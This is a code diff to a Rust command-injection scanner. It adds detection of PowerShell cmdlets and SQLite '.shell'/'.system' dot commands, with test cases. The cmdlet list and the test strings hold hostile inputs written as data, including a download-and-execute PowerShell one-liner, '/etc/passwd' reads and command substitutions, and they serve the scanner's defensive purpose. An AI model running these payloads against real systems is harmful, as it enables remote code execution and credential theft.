@@ -391,6 +391,24 @@ fn scan(s: &str, p: &super::Profile, hits: &mut Hits) {
     if has(b'(') {
         exec_functions(s, b, hits);
     }
+    if has(b'-') {
+        powershell_cmdlets(b, hits);
+    }
+    // SQLite's shell runs `.shell CMD` / `.system CMD` when a value reaches the `sqlite3` command
+    // line as input: a dot command at the start of the value, or of a line, with a command after it.
+    if has(b'.') {
+        for line in s.split(['\n', ';']) {
+            let l = line.trim_start();
+            if let Some(rest) = l
+                .strip_prefix(".shell ")
+                .or_else(|| l.strip_prefix(".system "))
+                && !rest.trim().is_empty()
+            {
+                hits.add(1, "cmd.sqlite_shell", CRITICAL);
+                break;
+            }
+        }
+    }
     // Server-side includes: `<!--#exec cmd="id"-->`, `<!--#include virtual="/etc/passwd"-->`.
     if g.has(s, "<!--#")
         && ["exec", "include", "echo", "config", "fsize", "printenv"]
@@ -398,6 +416,80 @@ fn scan(s: &str, p: &super::Profile, hits: &mut Hits) {
             .any(|d| s.contains(&format!("<!--#{d}")))
     {
         hits.add(1, "cmd.server_side_include", CRITICAL);
+    }
+}
+
+/// PowerShell cmdlets that run code, fetch payloads, read files or disable defences, by verb
+/// and noun. Verb-Noun is also English hyphenation ("get-together"), so only these pairs count.
+const CMDLETS: &[(&str, &[&str])] = &[
+    (
+        "add",
+        &["content", "localgroupmember", "mppreference", "type"],
+    ),
+    ("convertfrom", &["securestring"]),
+    ("convertto", &["securestring"]),
+    ("copy", &["item"]),
+    (
+        "get",
+        &[
+            "acl",
+            "childitem",
+            "ciminstance",
+            "content",
+            "credential",
+            "itemproperty",
+            "localuser",
+            "process",
+            "wmiobject",
+        ],
+    ),
+    ("import", &["module"]),
+    (
+        "invoke",
+        &[
+            "command",
+            "expression",
+            "item",
+            "restmethod",
+            "webrequest",
+            "wmimethod",
+        ],
+    ),
+    ("new", &["item", "localuser", "object", "service"]),
+    ("out", &["file"]),
+    ("register", &["scheduledtask"]),
+    ("remove", &["item", "mppreference"]),
+    (
+        "set",
+        &["content", "executionpolicy", "itemproperty", "mppreference"],
+    ),
+    ("start", &["bitstransfer", "job", "process"]),
+    ("stop", &["process", "service"]),
+];
+
+/// A PowerShell cmdlet from [`CMDLETS`] as a whole word: `IEX(New-Object Net.WebClient)`,
+/// `Start-Process calc.exe`, `Get-ChildItem C:\\`.
+fn powershell_cmdlets(b: &[u8], hits: &mut Hits) {
+    let word = |c: &u8| c.is_ascii_alphanumeric() || *c == b'_';
+    for (p, _) in b.iter().enumerate().filter(|(_, c)| **c == b'-') {
+        let verb_len = b[..p].iter().rev().take_while(|c| word(c)).count();
+        let noun_len = b[p + 1..].iter().take_while(|c| word(c)).count();
+        if verb_len == 0 || noun_len == 0 {
+            continue;
+        }
+        let verb = &b[p - verb_len..p];
+        let noun = &b[p + 1..p + 1 + noun_len];
+        let before_ok = p - verb_len == 0 || !matches!(b[p - verb_len - 1], b'-' | b'.' | b'/');
+        let after_ok = !matches!(b.get(p + 1 + noun_len), Some(b'-'));
+        if before_ok
+            && after_ok
+            && CMDLETS.iter().any(|(v, nouns)| {
+                v.as_bytes() == verb && nouns.iter().any(|n| n.as_bytes() == noun)
+            })
+        {
+            hits.add(1, "cmd.powershell", CRITICAL);
+            return;
+        }
     }
 }
 
@@ -949,6 +1041,11 @@ mod tests {
     fn attacks() {
         for a in [
             ";cat /etc/passwd",
+            "iex(new-object net.webclient).downloadstring('http://x/a')",
+            "start-process calc.exe",
+            "; get-childitem c:\\",
+            ".shell ls -la",
+            "x\n.system id",
             "| id",
             "&& whoami",
             "$(whoami)",
@@ -972,6 +1069,10 @@ mod tests {
     fn business_text() {
         for b in [
             "AT&T",
+            "Annual get-together; start-up founders",
+            "set-up fee waived, new-hire onboarding",
+            "v2.shell edition",
+            ".NET developer",
             "Head of R&D",
             "Q&A",
             "Procter & Gamble",
